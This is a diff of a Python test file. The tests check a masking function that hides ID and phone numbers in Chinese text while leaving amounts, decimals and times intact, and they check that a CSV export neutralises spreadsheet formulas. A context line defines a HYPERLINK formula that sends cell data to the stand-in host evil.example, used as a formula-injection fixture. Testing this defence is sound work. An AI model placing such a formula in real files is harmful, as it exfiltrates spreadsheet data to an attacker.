@@ -39,6 +39,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
     ("工号三七二一", "工号****"),
     ("保费六千元，十五年交，一两个月", "保费六千元，十五年交，一两个月"),  # amounts and durations stay
     ("第三期，第二年", "第三期，第二年"),
+    ("最快片段153.3字/分钟，1:23.7处", "最快片段153.3字/分钟，1:23.7处"),  # decimals and clock times
 ])
 def test_masking_covers_how_numbers_are_read_out(text: str, masked: str) -> None:
     assert mask_numbers(text) == masked
@@ -121,3 +122,5 @@ def test_the_decisions_export_masks_comments_and_neutralises_formulas(tmp_path: 
     with target.open(encoding="utf-8-sig") as fh:
         rows = list(csv.DictReader(fh))
     assert [r["comment"] for r in rows] == ["客户手机***********已核实", "'" + FORMULA]
+    stored = b"".join(p.read_bytes() for p in out.glob("workspace.sqlite3*"))  # the database and its WAL
+    assert "客户手机***********已核实".encode() in stored and b"13812345678" not in stored
